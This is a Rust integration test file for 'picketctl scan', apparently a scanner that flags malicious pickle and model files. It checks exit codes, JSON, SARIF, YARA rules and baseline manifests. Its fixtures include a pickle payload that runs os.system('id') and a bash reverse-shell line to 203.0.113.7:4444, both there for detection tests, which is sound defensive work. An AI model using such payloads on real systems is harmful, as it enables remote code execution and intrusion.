//! `picketctl scan` as a program: exit codes, the JSON contract, SARIF and what a person sees.

#![expect(clippy::unwrap_used, reason = "a helper that fails is a test that fails")]

use std::fs;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::Value;

const EVIL: &[u8] = b"cos\nsystem\n(S'id'\ntR.";
const UNKNOWN: &[u8] = b"c__main__\nNet\n.";

fn scan(arguments: &[&str], stdin: &[u8]) -> (i32, String, String) {
    let mut child = Command::new(env!("CARGO_BIN_EXE_picketctl"))
        .arg("scan")
        .args(arguments)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(stdin).unwrap();
    let ran = child.wait_with_output().unwrap();
    (ran.status.code().unwrap(), String::from_utf8(ran.stdout).unwrap(), String::from_utf8(ran.stderr).unwrap())
}

fn write(folder: &Path, name: &str, bytes: &[u8]) -> String {
    let path = folder.join(name);
    fs::write(&path, bytes).unwrap();
    path.to_str().unwrap().to_owned()
}

#[test]
fn exit_codes_say_found_clean_and_not_finished() {
    let folder = tempfile::tempdir().unwrap();
    let (evil, clean) = (write(folder.path(), "evil.pkl", EVIL), write(folder.path(), "clean.pkl", b"\x80\x02N."));
    let (unread, small) = (write(folder.path(), "unread.plan", b"ftrt\0\0\0\0"), write(folder.path(), "small.pkl", UNKNOWN));
    assert_eq!(scan(&[&clean], b"").0, 0);
    assert_eq!(scan(&[&evil, &clean, &unread], b"").0, 1);
    assert_eq!(scan(&[&clean, &unread], b"").0, 2);
    assert_eq!(scan(&["/nowhere/at/all"], b"").0, 2);
    assert_eq!(scan(&[], b"").0, 2, "usage");
    assert_eq!(scan(&[&small], b"").0, 1);
    assert_eq!(scan(&[&small, "--fail-on", "high"], b"").0, 0);
    assert_eq!(scan(&[&evil, "--fail-on", "high"], b"").0, 1);
    assert_eq!(scan(&["-"], EVIL).0, 1);
    let empty = folder.path().join("empty");
    fs::create_dir(&empty).unwrap();
    let (code, _, said) = scan(&[empty.to_str().unwrap()], b"");
    assert!(code == 0 && said.contains("nothing was judged"), "{said}");
}

#[test]
fn json_is_one_object_a_file_with_the_promised_fields() {
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), "a.pkl", EVIL);
    write(folder.path(), "b.pkl", b"\x80\x02N.");
    write(folder.path(), "c.plan", b"ftrt\0\0\0\0");
    let (code, text, _) = scan(&[folder.path().to_str().unwrap(), "--format", "json"], b"");
    let files: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!((code, files.len()), (1, 3));
    for file in &files {
        for field in ["path", "size", "sha256", "format", "verdict", "findings", "completeness"] {
            assert!(file.get(field).is_some(), "{field} is missing in {file}");
        }
    }
    assert_eq!((&files[0]["verdict"], &files[1]["verdict"], &files[2]["verdict"]), (&"malicious".into(), &"clean".into(), &"unscannable".into()));
    assert_eq!((&files[1]["completeness"], &files[2]["completeness"]), (&"full".into(), &"partial".into()));
    assert!(files[2]["incomplete"][0].as_str().unwrap().contains("engine"));
    let finding = &files[0]["findings"][0];
    for field in ["rule_id", "title", "severity", "techniques", "evidence", "explanation"] {
        assert!(finding.get(field).is_some(), "{field} is missing in {finding}");
    }
    assert_eq!(finding["evidence"]["value"], "os.system('id')");
    assert_eq!(files[0]["sha256"].as_str().unwrap().len(), 64);
}

#[test]
fn sarif_and_table() {
    let folder = tempfile::tempdir().unwrap();
    let evil = write(folder.path(), "evil\u{1b}[2J.pkl", EVIL);
    let (code, text, _) = scan(&[&evil, "--format", "sarif"], b"");
    let log: Value = serde_json::from_str(&text).unwrap();
    assert_eq!((code, &log["version"], &log["runs"][0]["results"][0]["ruleId"]), (1, &"2.1.0".into(), &"PICKET-PKL-001".into()));
    let (_, text, notes) = scan(&[&evil], b"");
    assert!(text.contains("MALICIOUS") && text.contains("os.system('id')") && !text.contains('\u{1b}'), "{text}");
    assert!(notes.contains("1 malicious"), "{notes}");
}

#[test]
fn sarif_is_for_scans() {
    let ran = Command::new(env!("CARGO_BIN_EXE_picketctl")).args(["whoami", "--format", "sarif"]).output().unwrap();
    assert_eq!(ran.status.code(), Some(2));
}

#[test]
fn yara_rules_are_applied_beside_the_built_in_ones() {
    let folder = tempfile::tempdir().unwrap();
    let (rules, files) = (folder.path().join("rules"), folder.path().join("files"));
    fs::create_dir(&rules).unwrap();
    fs::create_dir(&files).unwrap();
    write(&rules, "mine.yar", b"rule mark { meta: severity = \"high\" strings: $a = \"the-mark\" condition: $a }");
    let marked = write(&files, "notes.txt", b"words\nthe-mark\n");
    let shell = write(&files, "run.sh", b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n");
    let rules = rules.to_str().unwrap();
    assert_eq!(scan(&[&marked], b"").0, 0);
    let (code, text, _) = scan(&[&marked, "--yara", rules, "--format", "json"], b"");
    let file: Value = serde_json::from_str(&text).unwrap();
    let finding = &file["findings"][0];
    assert_eq!(
        (code, &finding["rule_id"], &finding["evidence"]["offset"], &finding["evidence"]["value"]),
        (1, &"YARA:mine.mark".into(), &6.into(), &"the-mark".into())
    );
    assert_eq!((&file["rules_applied"]["regions"], file["rules_applied"]["identity"].as_str().unwrap().len()), (&1.into(), 64));
    // The built-in pack is on, and can be turned off.
    let (code, text, _) = scan(&[&shell, "--format", "json"], b"");
    let file: Value = serde_json::from_str(&text).unwrap();
    assert_eq!((code, &file["findings"][0]["rule_id"], &file["verdict"]), (1, &"PICKET-YAR-030".into(), &"malicious".into()));
    assert_eq!(scan(&[&shell, "--no-yara"], b"").0, 0);
    // A rule of a pack is in the list of the SARIF log that its result points into.
    let (_, text, _) = scan(&[&marked, "--yara", rules, "--format", "sarif"], b"");
    let log: Value = serde_json::from_str(&text).unwrap();
    let run = &log["runs"][0];
    let index = usize::try_from(run["results"][0]["ruleIndex"].as_u64().unwrap()).unwrap();
    assert_eq!(run["tool"]["driver"]["rules"][index]["id"], "YARA:mine.mark");
}

#[test]
fn errors_in_rules_are_told_with_their_places_and_nothing_is_scanned() {
    let folder = tempfile::tempdir().unwrap();
    let clean = write(folder.path(), "clean.pkl", b"\x80\x02N.");
    write(folder.path(), "a.yar", b"rule one {\n condition: $missing\n}\n");
    write(folder.path(), "b.yar", b"rule two {\n condition: nothing\n}\n");
    let (code, out, told) = scan(&[&clean, "--yara", folder.path().to_str().unwrap()], b"");
    assert_eq!((code, out.as_str()), (2, ""));
    assert!(told.contains("a.yar:2:13: ") && told.contains("b.yar:2:13: "), "{told}");
    let empty = tempfile::tempdir().unwrap();
    let (code, _, told) = scan(&[&clean, "--yara", empty.path().to_str().unwrap()], b"");
    assert!(code == 2 && told.contains("no .yar"), "{told}");
}

/// A safetensors file of byte tensors.
fn safetensors(tensors: &[(&str, &[u8])]) -> Vec<u8> {
    let mut at = 0;
    let entries: Vec<String> = tensors
        .iter()
        .map(|(name, bytes)| {
            let from = at;
            at += bytes.len();
            format!(r#""{name}":{{"dtype":"U8","shape":[{}],"data_offsets":[{from},{at}]}}"#, bytes.len())
        })
        .collect();
    let header = format!("{{{}}}", entries.join(","));
    let data = tensors.iter().flat_map(|(_, bytes)| bytes.iter().copied());
    (header.len() as u64).to_le_bytes().into_iter().chain(header.into_bytes()).chain(data).collect()
}

#[test]
fn a_baseline_names_the_tensor_that_changed() {
    let folder = tempfile::tempdir().unwrap();
    let (models, manifest) = (folder.path().join("models"), folder.path().join("m.json"));
    fs::create_dir(&models).unwrap();
    write(&models, "a.safetensors", &safetensors(&[("embed", b"0000"), ("layers.17.down_proj", b"1111")]));
    write(&models, "b.safetensors", &safetensors(&[("x", b"same")]));
    write(&models, "gone.txt", b"hello\n");
    let (models, manifest) = (models.to_str().unwrap(), manifest.to_str().unwrap());
    let (code, _, notes) = scan(&[models, "--manifest", manifest], b"");
    assert_eq!(code, 0, "{notes}");
    let kept: Value = serde_json::from_slice(&fs::read(manifest).unwrap()).unwrap();
    assert_eq!((&kept["schema"], &kept["complete"], &kept["files"][0]["path"]), (&"picket.manifest/1".into(), &true.into(), &"a.safetensors".into()));
    assert_eq!(kept["files"][0]["tensors"][1]["name"], "layers.17.down_proj");
    assert_eq!(scan(&[models, "--baseline", manifest], b"").0, 0);
    assert_eq!(scan(&[models, "--baseline", manifest, "--quick"], b"").0, 0);

    write(Path::new(models), "a.safetensors", &safetensors(&[("embed", b"0000"), ("layers.17.down_proj", b"1112")]));
    write(Path::new(models), "new.txt", b"hello\n");
    fs::remove_file(Path::new(models).join("gone.txt")).unwrap();
    for arguments in [vec![models, "--baseline", manifest, "--format", "json"], vec![models, "--baseline", manifest, "--quick", "--format", "json"]] {
        let (code, text, _) = scan(&arguments, b"");
        let files: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        assert_eq!((code, files.len()), (1, 4), "{text}");
        let found =
            |file: &Value| file["findings"].as_array().unwrap().iter().map(|finding| finding["rule_id"].as_str().unwrap().to_owned()).collect::<Vec<_>>();
        let of = |name: &str| files.iter().find(|file| file["path"].as_str().unwrap().ends_with(name)).unwrap();
        assert_eq!(found(of("a.safetensors")), ["PICKET-BSL-001"]);
        assert_eq!(of("a.safetensors")["findings"][0]["evidence"]["key"], "layers.17.down_proj");
        assert_eq!(of("a.safetensors")["baseline"]["changed"][0]["what"], serde_json::json!(["bytes"]));
        assert!(found(of("b.safetensors")).is_empty());
        assert_eq!((found(of("new.txt")), found(of("gone.txt"))), (vec!["PICKET-BSL-004".to_owned()], vec!["PICKET-BSL-005".to_owned()]));
    }
    let (_, text, notes) = scan(&[models, "--baseline", manifest], b"");
    assert!(text.contains("layers.17.down_proj") && notes.contains("1 same, 1 changed, 1 added, 1 gone"), "{text}{notes}");
}

#[test]
fn what_a_baseline_cannot_be() {
    let folder = tempfile::tempdir().unwrap();
    let clean = write(folder.path(), "clean.pkl", b"\x80\x02N.");
    let other = write(folder.path(), "other.json", br#"{"schema":"picket.manifest/9","files":[]}"#);
    for arguments in [
        vec![clean.as_str(), "--baseline", &other],
        vec![&clean, "--baseline", "/nowhere/at/all"],
        vec![&clean, &other, "--manifest", "/tmp/never-written.json"],
        vec!["-", "--manifest", "/tmp/never-written.json"],
        vec![&clean, "--quick"],
        vec![&clean, "--manifest", "/nowhere/at/all.json"],
    ] {
        let (code, _, notes) = scan(&arguments, b"");
        assert_eq!(code, 2, "{arguments:?}: {notes}");
        assert!(notes.contains("error"), "{arguments:?}: {notes}");
    }
}

#[test]
fn digests_of_stdin_and_of_tensors() {
    let file = safetensors(&[("w", b"abc")]);
    let (code, text, _) = scan(&["-", "--digest", "--format", "json"], &file);
    let report: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(code, 0, "{text}");
    assert_eq!(report["tensors"][0]["sha256"], "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
    assert_eq!(report["tensors"][0]["blake3"], "6437b3ac38465133ffb63b75273a8db548c558465d79db03fd359c6cd5bd9d85");
    assert_eq!(report["blake3"].as_str().unwrap().len(), 64);
}

#[test]
fn ctrl_c_leaves_a_partial_result_that_says_so() {
    let folder = tempfile::tempdir().unwrap();
    // Sparse: no disk, and long enough to read that the signal comes first.
    for number in 0..4 {
        fs::File::create(folder.path().join(format!("{number}.bin"))).unwrap().set_len(16 << 30).unwrap();
    }
    write(folder.path(), "0.a.pkl", EVIL);
    let mut child = Command::new(env!("CARGO_BIN_EXE_picketctl"))
        .args(["scan", "--digest", "--threads", "1", "--format", "json"])
        .arg(folder.path())
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // The first report is there: the scan has begun, and its answer to the signal stands.
    let mut reports = BufReader::new(child.stdout.take().unwrap());
    let mut text = String::new();
    reports.read_line(&mut text).unwrap();
    let sent = Command::new("kill").args(["-INT", &child.id().to_string()]).status().unwrap();
    assert!(sent.success());
    reports.read_to_string(&mut text).unwrap();
    let ran = child.wait_with_output().unwrap();
    let files: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(files.len(), 5, "{text}");
    assert!(files.iter().any(|file| file["incomplete"][0] == "the scan was stopped before this file"), "{text}");
    assert!(files.iter().all(|file| file["verdict"] != "clean"), "{text}");
    assert!(matches!(ran.status.code(), Some(1 | 2)), "{:?}", ran.status);
}
